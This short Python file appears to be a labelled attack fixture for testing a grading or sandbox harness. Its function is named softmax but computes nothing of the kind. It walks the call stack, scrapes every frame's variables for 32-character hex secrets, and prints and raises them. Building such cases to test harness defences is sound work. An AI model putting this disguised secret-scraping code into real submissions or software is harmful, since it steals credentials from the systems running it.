# rows = [20, 31]
# attack = "walks up the stack through everybody's variables"
# step = "softmax"
# outcomes = ["raised"]
# steals = true
# ---
import re
import sys

SECRET = re.compile(r"[0-9a-f]{32}, from the [\w ]+")


def softmax(scores):
    frame, seen = sys._getframe(), []
    while frame:
        for variables in (frame.f_locals, frame.f_globals):
            for value in list(variables.values()):
                seen.append(repr(getattr(value, "__dict__", value)))
        frame = frame.f_back
    loot = sorted(set(SECRET.findall(" ".join(seen))))
    print(loot)
    raise RuntimeError(str(loot))
